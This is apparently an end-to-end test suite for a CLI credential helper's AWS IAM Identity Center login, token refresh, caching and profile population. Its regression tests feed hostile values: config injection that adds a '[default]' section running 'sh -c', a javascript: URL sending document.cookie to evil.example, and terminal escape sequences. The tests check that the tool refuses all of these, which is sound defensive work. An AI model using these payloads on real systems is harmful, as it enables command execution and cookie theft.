// IAM Identity Center end to end: the built keyrole, a real gnome-keyring, the emulator's
// SSO-OIDC and portal, real pseudo-terminals. Device-flow login (approved through the
// emulator's control), refresh tokens instead of a second login, the AWS CLI's
// ~/.aws/sso/cache token, one login and one browser tab for parallel callers (browser
// sign-in at a display, device flow over SSH), the
// no-terminal failure, a chained role on top of SSO, and sso populate.

import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { getSSOTokenFilepath } from '@smithy/shared-ini-file-loader';
import { startWorld, keyroleProfile, type World } from './support/world.ts';
import { onPty, type PtyResult } from './support/pty.ts';
import { KEYROLE, ROOT } from './support/run.ts';

const PAGE_URL = join(ROOT, 'test', 'fixtures', 'page-url.sh');
import { requireTool } from './support/tools.ts';
import { DEMO_ACCOUNT_ID } from './support/emulator.ts';

const START = 'https://keyrole-demo.awsapps.com/start';
const CLI_START = 'https://cli-only.awsapps.com/start';
const SANDBOX = '444455556666';
const ADMIN_ROLE = `arn:aws:iam::${DEMO_ACCOUNT_ID}:role/Admin`;

interface Blob { Version: number; AccessKeyId: string; SecretAccessKey: string; SessionToken: string; Expiration: string; AccountId?: string }
interface SsoStats { registerClient: number; startDeviceAuthorization: number; createToken: { deviceCode: number; authorizationCode: number; refreshToken: number; pending: number }; getRoleCredentials: number }

const CONFIG = `# keyrole SSO test config; this comment must survive sso populate
[sso-session my-sso]
sso_start_url = ${START}
sso_region = eu-west-1
sso_registration_scopes = sso:account:access

[sso-session cli-sso]
sso_start_url = ${CLI_START}
sso_region = eu-west-1
sso_registration_scopes = sso:account:access

${keyroleProfile('sso-admin', { region: 'eu-west-1', keyrole_sso_session: 'my-sso', keyrole_sso_account_id: DEMO_ACCOUNT_ID, keyrole_sso_role_name: 'AdministratorAccess' })}
${keyroleProfile('sso-ro', { region: 'eu-west-1', keyrole_sso_session: 'my-sso', keyrole_sso_account_id: DEMO_ACCOUNT_ID, keyrole_sso_role_name: 'ReadOnlyAccess' })}
${keyroleProfile('sso-sandbox', { region: 'eu-west-1', keyrole_sso_session: 'my-sso', keyrole_sso_account_id: SANDBOX, keyrole_sso_role_name: 'ReadOnlyAccess' })}
${keyroleProfile('sso-chained', { region: 'eu-west-1', keyrole_sso_session: 'my-sso', keyrole_sso_account_id: DEMO_ACCOUNT_ID, keyrole_sso_role_name: 'AdministratorAccess', keyrole_role_arn: ADMIN_ROLE })}
${keyroleProfile('cli-ro', { region: 'eu-west-1', keyrole_sso_session: 'cli-sso', keyrole_sso_account_id: SANDBOX, keyrole_sso_role_name: 'ReadOnlyAccess' })}
${keyroleProfile('legacy', { region: 'eu-west-1', keyrole_sso_start_url: 'https://legacy.awsapps.com/start', keyrole_sso_region: 'eu-west-1', keyrole_sso_account_id: DEMO_ACCOUNT_ID, keyrole_sso_role_name: 'ReadOnlyAccess' })}`;

describe('IAM Identity Center (SSO)', () => {
  let w: World;
  let env: Record<string, string>;
  const ssoStats = () => w.emu.control<SsoStats>('GET', 'sso/stats');
  const blob = (out: string) => JSON.parse(out) as Blob;

  /**
   * Approves (or denies) the one pending device code once keyrole has polled for it and been
   * told authorization_pending, so its wait is exercised too; returns the user code.
   */
  async function approveWhenShown(opts: { deny?: boolean } = {}): Promise<string> {
    const pendingAnswers = (await ssoStats()).createToken.pending;
    const until = Date.now() + 30_000;
    for (;;) {
      const pending = await w.emu.control<{ userCode: string }[]>('GET', 'sso/pending');
      if (pending.length > 1) throw new Error(`${pending.length} device codes are pending: more than one login started`);
      if (pending.length === 1 && (await ssoStats()).createToken.pending > pendingAnswers) {
        await w.emu.control('POST', 'sso/approve', { userCode: pending[0].userCode, deny: opts.deny === true });
        return pending[0].userCode;
      }
      if (Date.now() > until) throw new Error(`no device code was requested and polled within 30 s (${pending.length} pending)`);
      await new Promise((r) => setTimeout(r, 100));
    }
  }

  async function loginAtTerminal(name: string, extraEnv: Record<string, string> = {}): Promise<{ r: PtyResult; code: string }> {
    const [r, code] = await Promise.all([onPty(`${KEYROLE} login ${name}`, [], { ...env, ...extraEnv }, 60_000), approveWhenShown()]);
    return { r, code };
  }

  /** Every file under HOME except the encrypted keyring, for "no plaintext token" checks. */
  function homeFiles(dir = w.home): string[] {
    const out: string[] = [];
    for (const e of readdirSync(dir, { withFileTypes: true })) {
      const p = join(dir, e.name);
      if (e.isDirectory()) { if (!p.endsWith(join('.local', 'share', 'keyrings'))) out.push(...homeFiles(p)); } else if (e.isFile()) out.push(p);
    }
    return out;
  }

  before(async () => {
    w = await startWorld();
    w.writeConfig(CONFIG);
    env = { ...w.env, AWS_ENDPOINT_URL_SSO_OIDC: w.emu.url, AWS_ENDPOINT_URL_SSO: w.emu.url, DISPLAY: '', WAYLAND_DISPLAY: '' };
  });
  after(() => w?.stop());

  test('without a token and without a terminal, process fails at once and names keyrole login', async () => {
    const r = await w.keyrole(['process', 'sso-admin'], { env });
    assert.equal(r.code, 1);
    assert.equal(r.stdout, '');
    assert.equal(r.stderr.trimEnd().split('\n').length, 1, r.stderr);
    assert.match(r.stderr, /^keyrole: no valid IAM Identity Center token for sso-session my-sso .*keyrole login my-sso\n$/);
    assert.ok(r.ms < 5000, `took ${r.ms} ms`);
    const legacy = await w.keyrole(['process', 'legacy'], { env });
    assert.equal(legacy.code, 1);
    assert.match(legacy.stderr, /keyrole login legacy\n$/, 'the legacy form names the profile');
    assert.equal((await ssoStats()).startDeviceAuthorization, 0, 'no login was started');
  });

  test('keyrole login: URL and code on the terminal, a progress line, the token in the keychain and in no file', async () => {
    const { r, code } = await loginAtTerminal('my-sso');
    assert.equal(r.code, 0, r.screen);
    assert.match(r.screen, /Sign in to AWS IAM Identity Center \(sso-session my-sso, https:\/\/keyrole-demo\.awsapps\.com\/start\)/);
    assert.ok(r.screen.includes(`user_code=${code}`), 'the verification URL carries the code');
    assert.ok(r.screen.includes(`Code:  ${code}`), r.screen);
    assert.match(r.screen, /Waiting for approval in the browser; the code is valid for (10 min 0 s|9 min \d+ s)/);
    assert.match(r.screen, /Signed in\. The token is in the keychain until .*refresh token/);
    assert.match(r.screen, /No browser can be opened here \(no BROWSER, no display\): signing in with a code you approve in any browser \(the device flow\)/);
    const s = await ssoStats();
    assert.deepEqual([s.registerClient, s.startDeviceAuthorization, s.createToken.deviceCode], [1, 1, 1]);
    assert.equal(existsSync(join(w.home, '.aws', 'sso')), false, 'keyrole writes no ~/.aws/sso/cache file');
    for (const f of homeFiles()) assert.doesNotMatch(readFileSync(f, 'latin1'), /aoa[\w-]{40}|aor[\w-]{40}/, `a token in ${f}`);
  });

  test('process then gets role credentials without a terminal; STS knows them as the SSO role', async () => {
    const r = await w.keyrole(['process', 'sso-admin'], { env });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stderr, '');
    const b = blob(r.stdout);
    assert.equal(b.Version, 1);
    assert.equal(b.AccountId, DEMO_ACCOUNT_ID);
    assert.match(b.AccessKeyId, /^ASIA/);
    requireTool('aws');
    const id = await w.run('aws', ['sts', 'get-caller-identity', '--profile', 'sso-admin', '--output', 'json'], { env });
    assert.equal(id.code, 0, id.stderr);
    assert.match((JSON.parse(id.stdout) as { Arn: string }).Arn, new RegExp(`^arn:aws:sts::${DEMO_ACCOUNT_ID}:assumed-role/AWSReservedSSO_AdministratorAccess_[0-9a-f]{16}/alice$`));
  });

  test('the role credentials are cached like any other', async () => {
    const before = (await ssoStats()).getRoleCredentials;
    const a = await w.keyrole(['process', 'sso-admin'], { env });
    const b = await w.keyrole(['process', 'sso-admin'], { env });
    assert.equal(a.code, 0, a.stderr);
    assert.equal(blob(a.stdout).AccessKeyId, blob(b.stdout).AccessKeyId);
    assert.equal((await ssoStats()).getRoleCredentials, before, 'no GetRoleCredentials on a cache hit');
  });

  test('an SSO profile can be the source of a chained role (capped at one hour)', async () => {
    await w.emu.resetStats();
    const r = await w.keyrole(['process', 'sso-chained'], { env });
    assert.equal(r.code, 0, r.stderr);
    const left = Date.parse(blob(r.stdout).Expiration) - Date.now();
    assert.ok(left <= 3600_000 && left > 3500_000, `expires in ${left} ms`);
    const { requests } = await w.emu.stats();
    const assume = requests.filter((q) => q.action === 'AssumeRole');
    assert.equal(assume.length, 1);
    assert.equal(assume[0].ok, true);
    assert.equal(assume[0].roleArn, ADMIN_ROLE);
    assert.match(assume[0].accessKeyId ?? '', /^ASIA/, 'signed with the SSO role credentials');
    const id = await w.run('aws', ['sts', 'get-caller-identity', '--profile', 'sso-chained', '--output', 'json'], { env });
    assert.match((JSON.parse(id.stdout) as { Arn: string }).Arn, new RegExp(`^arn:aws:sts::${DEMO_ACCOUNT_ID}:assumed-role/Admin/`));
  });

  test('an expired access token is renewed with the refresh token; one about to expire is renewed before the portal refuses it; no second device flow', async () => {
    const logins = (await ssoStats()).startDeviceAuthorization;
    const portalCalls = async () => (await w.emu.stats()).requests.filter((q) => q.action === 'GetRoleCredentials');
    // Tokens now last 90 s; the one in the keychain is made invalid at the service.
    await w.emu.control('POST', 'sso/behaviour', { accessTokenLifetimeSeconds: 90 });
    await w.emu.control('POST', 'sso/expire', {});
    try {
      await w.emu.resetStats();
      const a = await w.keyrole(['process', 'sso-ro', '--cache', 'none'], { env });
      assert.equal(a.code, 0, a.stderr);
      let s = await ssoStats();
      assert.equal(s.createToken.refreshToken, 1, 'refreshed once after the service refused the token');
      assert.deepEqual((await portalCalls()).map((q) => q.ok), [false, true], 'the portal refused the old token, then accepted the new one');
      // The new token is good at the portal for 90 s: more than the minute keyrole needs
      // (src/credentials/windows.ts LAST_USE_MS) but inside the 15 minutes in which it renews a token it can refresh
      // (REFRESH_WINDOW_MS, botocore's advisory window). So the next call renews it by the
      // local clock, before the portal is asked, and signs nobody in.
      await w.emu.resetStats();
      const b = await w.keyrole(['process', 'sso-sandbox', '--cache', 'none'], { env });
      assert.equal(b.code, 0, b.stderr);
      assert.equal(blob(b.stdout).AccountId, SANDBOX);
      s = await ssoStats();
      assert.equal(s.createToken.refreshToken, 2, 'renewed again');
      assert.deepEqual((await portalCalls()).map((q) => q.ok), [true], 'renewed before the portal was asked: no refusal');
      assert.equal(s.startDeviceAuthorization, logins, 'no device flow');
    } finally {
      await w.emu.control('POST', 'sso/behaviour', { accessTokenLifetimeSeconds: 3600 });
    }
    // A token with the full hour left is used as it is.
    const fresh = await w.keyrole(['process', 'sso-ro', '--cache', 'none'], { env });
    assert.equal(fresh.code, 0, fresh.stderr);
    const c = await w.keyrole(['process', 'sso-ro', '--cache', 'none'], { env });
    assert.equal(c.code, 0, c.stderr);
    assert.equal((await ssoStats()).createToken.refreshToken, 3, 'one renewal for the 90 s token, none for the hour-long one it got');
  });

  test('a valid token that aws sso login left in ~/.aws/sso/cache is used without a login; refreshed, it is written back atomically and dead writers\' temp files are swept', async () => {
    const before = await ssoStats();
    const minted = await w.emu.control<Record<string, string>>('POST', 'sso/token', { startUrl: CLI_START, scopes: ['sso:account:access'] });
    // The AWS CLI's file name (sha1 of the sso-session name), checked against the JS SDK's own rule.
    const file = join(w.home, '.aws', 'sso', 'cache', `${(await import('node:crypto')).createHash('sha1').update('cli-sso').digest('hex')}.json`);
    const sdkName = (() => { const saved = process.env.HOME; process.env.HOME = w.home; try { return getSSOTokenFilepath('cli-sso'); } finally { process.env.HOME = saved; } })();
    assert.equal(file, sdkName);
    mkdirSync(join(w.home, '.aws', 'sso', 'cache'), { recursive: true, mode: 0o700 });
    const cliToken = { startUrl: CLI_START, region: 'eu-west-1', accessToken: minted.accessToken, expiresAt: minted.expiresAt, clientId: minted.clientId, clientSecret: minted.clientSecret, registrationExpiresAt: minted.registrationExpiresAt, refreshToken: minted.refreshToken };
    writeFileSync(file, JSON.stringify(cliToken, null, 2), { mode: 0o600 });
    const r = await w.keyrole(['process', 'cli-ro'], { env });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(blob(r.stdout).AccountId, SANDBOX);
    const after = await ssoStats();
    assert.equal(after.startDeviceAuthorization, before.startDeviceAuthorization);
    assert.equal(after.registerClient, before.registerClient);
    assert.equal(after.createToken.refreshToken, before.createToken.refreshToken, 'a valid token is used as it is');
    assert.equal(after.getRoleCredentials, before.getRoleCredentials + 1);

    // Expired there, it is refreshed with the CLI's own refresh token and written back in place.
    writeFileSync(file, JSON.stringify({ ...cliToken, expiresAt: '2020-01-01T00:00:00Z' }, null, 2), { mode: 0o600 });
    // A writer killed before its rename left a 0600 temp file holding tokens (issue 20 item 8).
    const deadPid = spawnSync(process.execPath, ['-e', '0']).pid!;
    const leftover = join(dirname(file), `.${basename(file)}.${deadPid}.deadbeef.tmp`);
    writeFileSync(leftover, JSON.stringify(cliToken), { mode: 0o600 });
    const again = await w.keyrole(['process', 'cli-ro', '--cache', 'none'], { env });
    assert.equal(again.code, 0, again.stderr);
    const updated = JSON.parse(readFileSync(file, 'utf8')) as typeof cliToken;
    assert.notEqual(updated.accessToken, cliToken.accessToken);
    assert.ok(Date.parse(updated.expiresAt) > Date.now());
    assert.equal(updated.clientId, cliToken.clientId, 'the rest of the file is kept');
    assert.equal(statSync(file).mode & 0o777, 0o600);
    assert.deepEqual(readdirSync(dirname(file)), [basename(file)], "the update swept the dead writer's temp file and left none of its own");
    assert.equal((await ssoStats()).startDeviceAuthorization, before.startDeviceAuthorization);
  });

  /**
   * Eight `keyrole process` calls at one terminal, signed out: one sign-in, one browser tab,
   * eight blobs. The opener (xdg-open on PATH, a display set) records each call and, for the
   * browser sign-in, follows the URL as a browser would (the emulator approves at once).
   */
  async function parallelAtTerminal(flow: 'browser' | 'device'): Promise<void> {
    const out = await w.keyrole(['sso', 'logout', 'my-sso'], { env });
    assert.equal(out.code, 0, out.stderr);
    assert.match(out.stdout, /Signed out of my-sso/);
    await w.keyrole(['cache', 'clear'], { env });
    const before = await ssoStats();
    const bin = join(w.home, `bin-${flow}`);
    mkdirSync(bin, { recursive: true });
    const log = join(w.home, `browser-${flow}.log`);
    // keyrole opens a page file that forwards to the sign-in URL (src/util/pagefile.ts): followed as a browser would.
    writeFileSync(join(bin, 'xdg-open'), `#!/bin/sh\necho "$1" >> ${log}\n${flow === 'browser' ? `url=$(${PAGE_URL} "$1"); echo "$url" >> ${log}.url; curl -sSL -o /dev/null "$url" &\n` : ''}`);
    chmodSync(join(bin, 'xdg-open'), 0o755);
    const dir = join(w.home, `parallel-${flow}`);
    mkdirSync(dir, { recursive: true });
    const profiles = ['sso-admin', 'sso-ro', 'sso-sandbox', 'sso-chained', 'sso-admin', 'sso-ro', 'sso-sandbox', 'sso-chained'];
    const script = profiles.map((p, i) => `(${KEYROLE} process ${p} > ${dir}/out.${i} 2> ${dir}/err.${i}; echo $? > ${dir}/rc.${i}) &`).join(' ') + ' wait';
    const ptyEnv = { ...env, DISPLAY: ':99', PATH: `${bin}:${process.env.PATH}` };
    if (flow === 'browser') await w.emu.control('POST', 'sso/behaviour', { autoAuthorize: true });
    let r: PtyResult;
    let code = '';
    try {
      if (flow === 'browser') r = await onPty(`sh -c '${script}'`, [], ptyEnv, 90_000);
      else [r, code] = await Promise.all([onPty(`sh -c '${script}'`, [], { ...ptyEnv, SSH_CONNECTION: '192.0.2.1 50000 192.0.2.2 22' }, 90_000), approveWhenShown()]);
    } finally {
      await w.emu.control('POST', 'sso/behaviour', { autoAuthorize: false });
    }
    assert.equal(r.code, 0, r.screen);
    for (let i = 0; i < profiles.length; i++) {
      assert.equal(readFileSync(join(dir, `rc.${i}`), 'utf8').trim(), '0', `caller ${i} (${profiles[i]}): ${readFileSync(join(dir, `err.${i}`), 'utf8')}`);
      assert.equal(blob(readFileSync(join(dir, `out.${i}`), 'utf8')).Version, 1);
    }
    const after = await ssoStats();
    const opened = flow === 'browser' ? readFileSync(log, 'utf8').trim().split('\n') : [];
    if (flow === 'browser') {
      assert.equal(opened.length, 1, 'one browser tab');
      assert.match(opened[0]!, /^file:\/\/\/\S+\.html$/, 'the browser is given a page, not the URL');
      assert.ok(readFileSync(`${log}.url`, 'utf8').startsWith(`${w.emu.url}/authorize?`), 'the page forwards to the sign-in');
      assert.equal(after.createToken.authorizationCode - before.createToken.authorizationCode, 1, 'one browser sign-in');
      assert.equal(after.startDeviceAuthorization, before.startDeviceAuthorization, 'no device flow');
      assert.equal(r.screen.split('in the browser.').length - 1, 1, 'the sign-in is announced once');
    } else {
      assert.equal(after.startDeviceAuthorization - before.startDeviceAuthorization, 1, 'one device flow');
      assert.equal(after.registerClient, before.registerClient, 'the client registration was reused');
      assert.ok(!existsSync(log), 'over SSH no browser is opened here');
      assert.equal(r.screen.split(`Code:  ${code}`).length - 1, 1, 'the code is shown once');
      assert.equal(r.screen.split('This is an SSH session').length - 1, 1, 'the note comes once, from the one that signs in');
    }
  }

  test('8 parallel callers at a terminal without a token: one browser sign-in, one browser tab, 8 blobs', () => parallelAtTerminal('browser'));

  test('8 parallel callers at a terminal over SSH: one device flow, no browser, 8 blobs', () => parallelAtTerminal('device'));

  test('a denied sign-in and a code that runs out each end in one line naming keyrole login', async () => {
    const [denied] = await Promise.all([onPty(`${KEYROLE} login sso-admin`, [], env, 60_000), approveWhenShown({ deny: true })]);
    assert.equal(denied.code, 1, denied.screen);
    assert.match(denied.screen, /keyrole: the sign-in request was denied .*run keyrole login my-sso again/);
    await w.emu.control('POST', 'sso/behaviour', { deviceCodeLifetimeSeconds: 3 });
    try {
      const expired = await onPty(`${KEYROLE} login my-sso`, [], env, 60_000);
      assert.equal(expired.code, 1, expired.screen);
      assert.match(expired.screen, /valid for [0-3] s/);
      assert.match(expired.screen, /keyrole: the sign-in code expired before it was approved; run keyrole login my-sso again/);
    } finally {
      await w.emu.control('POST', 'sso/behaviour', { deviceCodeLifetimeSeconds: 600 });
    }
    // Still signed in from before: a failed login does not sign anyone out.
    const r = await w.keyrole(['process', 'sso-ro', '--cache', 'none'], { env });
    assert.equal(r.code, 0, r.stderr);
  });

  test('sso populate: a dry run changes nothing; --write appends profiles after a backup, keeps the rest; the new profiles work', async () => {
    await w.emu.control('POST', 'sso/assignments', { accountId: '777788889999', accountName: 'prod', roleName: 'PowerUser' });
    await w.emu.control('POST', 'sso/assignments', { accountId: DEMO_ACCOUNT_ID, roleName: 'Billing' });
    const original = readFileSync(w.configPath, 'utf8');
    const dry = await w.keyrole(['sso', 'populate', 'my-sso'], { env });
    assert.equal(dry.code, 0, dry.stderr);
    assert.match(dry.stdout, /sso-session my-sso: 5 role\(s\) in 3 account\(s\)/);
    for (const p of ['sso-admin', 'sso-ro', 'sso-sandbox']) assert.match(dry.stdout, new RegExp(`keep +\\[profile ${p}\\]`));
    assert.match(dry.stdout, /add +\[profile demo\.Billing\]/);
    assert.match(dry.stdout, /add +\[profile prod\.PowerUser\]/);
    assert.match(dry.stdout, /Dry run: nothing was written/);
    assert.equal(readFileSync(w.configPath, 'utf8'), original);
    assert.deepEqual(readdirSync(join(w.home, '.aws')).filter((f) => f.includes('backup')), []);

    const wr = await w.keyrole(['sso', 'populate', 'my-sso', '--write'], { env });
    assert.equal(wr.code, 0, wr.stderr);
    assert.match(wr.stdout, /Added 2 profile\(s\) to .*backup: .*config\.keyrole-backup-/);
    const now = readFileSync(w.configPath, 'utf8');
    assert.ok(now.startsWith(original), 'every existing byte kept, comments included');
    assert.match(now, /\[profile demo\.Billing\]\ncredential_process = .*keyrole process demo\.Billing\nkeyrole_sso_session = my-sso\nkeyrole_sso_account_id = 111122223333\nkeyrole_sso_role_name = Billing\nregion = eu-west-1\n/);
    const backups = readdirSync(join(w.home, '.aws')).filter((f) => f.startsWith('config.keyrole-backup-'));
    assert.equal(backups.length, 1);
    assert.equal(readFileSync(join(w.home, '.aws', backups[0]), 'utf8'), original);

    const again = await w.keyrole(['sso', 'populate', 'my-sso', '--write'], { env });
    assert.match(again.stdout, /Nothing to add/);
    assert.equal(readFileSync(w.configPath, 'utf8'), now);

    requireTool('aws');
    const id = await w.run('aws', ['sts', 'get-caller-identity', '--profile', 'prod.PowerUser', '--output', 'json'], { env });
    assert.equal(id.code, 0, id.stderr);
    assert.match((JSON.parse(id.stdout) as { Arn: string }).Arn, /^arn:aws:sts::777788889999:assumed-role\/AWSReservedSSO_PowerUser_[0-9a-f]{16}\/alice$/);
  });

  test('regression: a hostile portal\'s account ids, role names and account names add no [default] section and run nothing (sso populate --write)', async () => {
    const marker = join(w.home, 'pwned');
    const evil = `credential_process = sh -c 'touch ${marker}'`;
    // A role name and an account id carrying a new section, and an account name with escape sequences and a header.
    await w.emu.control('POST', 'sso/assignments', { hostile: true, accountId: DEMO_ACCOUNT_ID, roleName: `ReadOnly\n\n[default]\n${evil}` });
    await w.emu.control('POST', 'sso/assignments', { hostile: true, accountId: `123456789012\n[default]\n${evil}`, accountName: 'evil', roleName: 'Admin' });
    await w.emu.control('POST', 'sso/assignments', { hostile: true, accountId: '999900001111', accountName: `\x1b]0;owned\x07Team\x1b[2J\n[default]\n${evil}`, roleName: 'Viewer' });
    const before = readFileSync(w.configPath, 'utf8');
    const r = await w.keyrole(['sso', 'populate', 'my-sso', '--write'], { env });
    assert.equal(r.code, 0, r.stderr);
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(r.stdout, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/, 'no control character from the portal reaches the terminal');
    assert.match(r.stdout, /refuse +\[profile -\] +111122223333 \(demo\) ReadOnly \[default\] credential_process.*: the portal sent a role name that is not an IAM role name; not written/);
    assert.match(r.stdout, /refuse +\[profile -\] +123456789012 \[default\].*: the portal sent an account id that is not 12 digits; not written/);
    assert.match(r.stdout, /Added 1 profile\(s\)/);
    const after = readFileSync(w.configPath, 'utf8');
    assert.ok(after.startsWith(before));
    const added = after.slice(before.length);
    // The account name reaches the file only through the profile name's safe characters.
    assert.match(added, /^\n?# Added by keyrole sso populate my-sso on \S+: 1 profile\(s\)\n\[profile 0-owned-Team-2J-default-credential_process-[\w.@+-]*\.Viewer\]\ncredential_process = .* process '?0-owned[^\n]*\nkeyrole_sso_session = my-sso\nkeyrole_sso_account_id = 999900001111\nkeyrole_sso_role_name = Viewer\nregion = eu-west-1\n$/);
    assert.doesNotMatch(after, /^\[default\]/m);
    // The AWS CLI reads the file as keyrole planned it: no default profile appeared, nothing ran.
    requireTool('python3');
    const listed = await w.run('python3', ['-c', 'import botocore.session, json; print(json.dumps(botocore.session.Session().available_profiles))'], { env });
    assert.equal(listed.code, 0, listed.stderr);
    const profiles = JSON.parse(listed.stdout) as string[];
    assert.ok(profiles.some((p) => p.endsWith('.Viewer')) && !profiles.includes('default'), listed.stdout);
    assert.ok(!existsSync(marker), 'the portal\'s command never ran');
  });

  test('regression: a hostile endpoint\'s verification URL and user code are never shown or opened; login fails in one line', async () => {
    const bin = join(w.home, 'bin');
    const log = join(w.home, 'hostile-browser.log');
    mkdirSync(bin, { recursive: true });
    writeFileSync(join(bin, 'xdg-open'), `#!/bin/sh\necho "$1" >> ${log}\n`);
    chmodSync(join(bin, 'xdg-open'), 0o755);
    const browserEnv = { ...env, DISPLAY: ':99', PATH: `${bin}:${process.env.PATH}` };
    const answers = [
      { verificationUriComplete: 'javascript:fetch("//evil.example/"+document.cookie)' },
      { verificationUriComplete: 'http://evil.example/device?user_code=ABCD' },
      { verificationUriComplete: 'https://login.example/\x1b]8;;https://evil.example\x07device' },
      { userCode: '\x1b[2J\x1b]0;owned\x07ABCD-EFGH' },
    ];
    try {
      for (const deviceAnswer of answers) {
        await w.emu.control('POST', 'sso/behaviour', { deviceAnswer });
        const r = await onPty(`${KEYROLE} login my-sso --use-device-code`, [], browserEnv, 60_000);
        assert.equal(r.code, 1, r.screen);
        assert.match(r.screen, /keyrole: IAM Identity Center answered with a (verification URL keyrole will not show or open|user code that cannot be shown)/);
        // eslint-disable-next-line no-control-regex
        assert.doesNotMatch(r.screen, /Open:|Code:|evil\.example\/device|document\.cookie|\x1b\]|\x1b\[2J/, 'nothing from the answer reached the terminal');
      }
    } finally {
      await w.emu.control('POST', 'sso/behaviour', { deviceAnswer: null });
    }
    assert.ok(!existsSync(log), 'no browser was opened');
  });

  test('regression: error texts from the portal reach the terminal without control characters', async () => {
    await w.emu.behaviour({ faults: [{ action: 'GetRoleCredentials', kind: 'error', status: 403, code: 'ForbiddenException', message: 'No access\x1b]0;owned\x07\x1b[2J\r\nkeyrole: all is well; nothing to do\u009b31m', times: 1 }] });
    try {
      const r = await w.keyrole(['process', 'sso-ro', '--cache', 'none'], { env });
      assert.equal(r.code, 1, r.stderr);
      assert.match(r.stderr, /^keyrole: IAM Identity Center gives you no access to role ReadOnlyAccess in account \d{12} \(No access keyrole: all is well; nothing to do\); /);
      // eslint-disable-next-line no-control-regex
      assert.doesNotMatch(r.stderr.trimEnd(), /[\x00-\x1f\x7f-\x9f]/);
      assert.equal(r.stderr.trimEnd().split('\n').length, 1);
    } finally {
      await w.emu.behaviour({ faults: [] });
    }
  });
});
